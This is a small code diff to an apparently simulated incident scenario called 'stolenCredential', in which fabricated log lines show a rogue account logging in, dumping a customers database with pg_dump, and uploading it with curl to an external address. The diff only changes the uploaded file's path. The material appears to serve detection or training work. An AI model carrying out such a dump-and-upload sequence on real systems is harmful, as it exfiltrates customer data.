@@ -243,7 +243,7 @@ export const stolenCredential: readonly Line[] = [
   log("jump-7/secure", 160.5, "new user: name=helper2, UID=1400, GID=1400, home=/home/helper2"),
   log("jump-7/secure", 200.5, "Accepted publickey for helper2 from 192.0.2.77 port 51 ssh2"),
   log("jump-7/commands.log", 240.5, "exec pg_dump -U crm customers"),
-  log("jump-7/commands.log", 255.5, "exec curl -T /tmp/c.gz http://192.0.2.77/up"),
+  log("jump-7/commands.log", 255.5, "exec curl -T /srv/c.gz http://192.0.2.77/up"),
   change(20, {
     type: "config",
     service: "fail2ban",
